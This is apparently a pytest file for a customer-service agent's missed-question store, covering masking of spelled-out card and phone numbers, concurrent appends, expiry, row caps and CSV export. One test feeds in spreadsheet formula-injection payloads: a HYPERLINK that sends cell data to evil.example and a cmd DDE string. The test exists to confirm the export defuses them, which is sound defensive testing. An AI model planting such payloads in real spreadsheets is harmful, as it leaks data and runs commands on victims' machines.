"""The store of missed questions as the security review asked: spelled-out numbers masked like digits, one file safe
from several instances at once, `keep` appending without rewriting, expiry on a timer (`purge`), a cap on the rows,
and customer wordings that a spreadsheet cannot take for formulas."""
from __future__ import annotations

import csv
import io
import json
import re
import threading
import time
from types import SimpleNamespace

from agent.answer.faq import FaqEntry, load_faq
from agent.answer.questions import MissedQuestion, QuestionStore, faq_csv, mask, with_paraphrases
from agent.engines import Engines
from agent.messages import Answer

HANDED = Answer("Let me connect you to a person.", "apologetic", 0.1, True, None)
_NUMBER_WORDS = re.compile(r"\b(zero|oh|one|two|three|four|five|six|seven|eight|nine|ten|eleven|twelve|thirteen|fourteen|fifteen|"
                           r"sixteen|seventeen|eighteen|nineteen|twenty|thirty|forty|fifty|sixty|seventy|eighty|ninety|hundred)\b",
                           re.IGNORECASE)
_WORDS = ("alpha bravo charlie delta echo foxtrot golf hotel india juliet kilo lima mike november oscar papa quebec romeo sierra "
          "tango uniform victor whiskey xray yankee zulu").split()


def _no_number(text: str) -> bool:
    return not re.search(r"\d", text) and not _NUMBER_WORDS.search(text)


def test_spelled_out_card_and_order_numbers_are_masked(tmp_path):
    card = "my card is four one two three five five five five six six six six seven seven seven seven and it was declined"
    order = "my order is forty seven nineteen"
    for said in (card, order, "My Order Is Forty-Seven Nineteen", "call me on oh seven seven double five one two three"):
        masked = mask(said)
        assert _no_number(masked), (said, masked)
    assert "[card]" in mask(card) and mask(order) == "my order is ## ##"
    assert mask("is it the first one or one of my items") == "is it the first one or one of my items", "a lone 'one' stays a word"
    store = QuestionStore(tmp_path / "q.jsonl", 30)
    store.keep(card, HANDED, 0.5)
    [row] = [json.loads(line) for line in store.path.read_text().splitlines()]
    assert row["text"] == "my card is [card] and it was declined"


def test_two_stores_on_one_file_keeping_from_threads_lose_no_question(tmp_path):
    path = tmp_path / "q.jsonl"
    stores = [QuestionStore(path, 30), QuestionStore(path, 30)]  # as a call's and the operator's
    start = threading.Barrier(8)

    def keep(index: int) -> None:
        start.wait()
        for n in range(50):
            stores[(index + n) % 2].keep(f"question {_WORDS[index]} {_WORDS[n % 26]} {_WORDS[n // 26]}", HANDED, 0.5)

    threads = [threading.Thread(target=keep, args=(i,)) for i in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    lines = path.read_text().splitlines()
    assert len(lines) == 400 and all(json.loads(line)["did"] == "handoff" for line in lines)
    assert len(stores[0].all()) == 400 and len({q.text for q in stores[1].all()}) == 400


def test_keep_appends_a_line_and_does_not_rewrite_the_file(tmp_path):
    store = QuestionStore(tmp_path / "q.jsonl", 30)
    for word in _WORDS[:5]:
        store.keep(f"do you sell {word}", HANDED, 0.5)
    before, inode = store.path.read_bytes(), store.path.stat().st_ino
    store.keep("do you sell zebras", HANDED, 0.5)
    after = store.path.read_bytes()
    assert store.path.stat().st_ino == inode, "the same file, not a new one put in its place"
    assert after.startswith(before) and after[len(before):].count(b"\n") == 1 and b"zebras" in after[len(before):]


def test_purge_deletes_expired_questions_without_a_keep_or_a_read(tmp_path):
    store = QuestionStore(tmp_path / "q.jsonl", retention_days=7)
    store.keep("do you sell cars", HANDED, 0.5)
    with store.path.open("a") as f:
        for days in (8, 30):
            f.write(json.dumps(MissedQuestion(time.time() - days * 86400, f"an old one from {days} days", "handoff").__dict__) + "\n")
    assert store.purge() == 2
    text = store.path.read_text()
    assert "an old one" not in text and "do you sell cars" in text
    assert store.purge() == 0 and [q.text for q in QuestionStore(store.path, 7).all()] == ["do you sell cars"]


def test_at_most_max_rows_are_kept_the_newest(tmp_path):
    store = QuestionStore(tmp_path / "q.jsonl", 30, max_rows=10)
    for n in range(60):
        store.keep(f"question {_WORDS[n % 26]} {_WORDS[n // 26]}", HANDED, 0.5)
        assert len(store.path.read_text().splitlines()) <= 10 + store.slack, "the file is compacted as it grows"
    newest = [f"question {_WORDS[n % 26]} {_WORDS[n // 26]}" for n in range(50, 60)]
    assert [q.text for q in store.all()] == newest
    assert len(store.path.read_text().splitlines()) == 10
    assert [q.text for q in QuestionStore(store.path, 30, max_rows=5).all()] == newest[5:], "a lower cap drops the oldest"


def test_customer_wordings_never_start_a_csv_cell_as_a_formula(tmp_path):
    entries = [FaqEntry("Do you sell gift cards?", "Yes, in the shop.")]
    wordings = ['=HYPERLINK("http://evil.example/?"&A1,"gift cards")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                "\t=2+2", "\r=3+3", " = =4+4", "do you sell gift cards online"]
    entries, added = with_paraphrases(entries, "Do you sell gift cards?", wordings)
    assert added == len(wordings)
    text = faq_csv(entries)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    paraphrases = [p for cell in cells[5:] for p in cell.split("|")]  # no paraphrase at the start of a cell either
    assert not [p for p in paraphrases if p[:1] in ("=", "+", "-", "@", "\t", "\r")], paraphrases
    path = tmp_path / "faq.csv"
    path.write_text(text)
    assert load_faq(path) == entries, "the CSV reads back as the same FAQ"
    assert entries[0].paraphrases[0] == 'HYPERLINK("http://evil.example/?"&A1,"gift cards")'


def test_engines_keep_one_store_per_tenant(tmp_path):
    engines = Engines(None, SimpleNamespace(get=lambda tenant: SimpleNamespace(threshold=0.4)), {}, None, {}, None)
    tenant = SimpleNamespace(id="demo", questions_path=tmp_path / "demo" / "questions.jsonl", keep_questions_days=30, keep_questions_max=50)
    first = engines.questions_for(tenant)
    assert engines.questions_for(tenant) is first and first.store.max_rows == 50 and first.threshold() == 0.4
    assert engines.questions_for(SimpleNamespace(id="other", questions_path=None)) is None
    changed = SimpleNamespace(**{**tenant.__dict__, "keep_questions_max": 20})
    assert engines.questions_for(changed).store.max_rows == 20, "a changed setting gets a store that follows it"
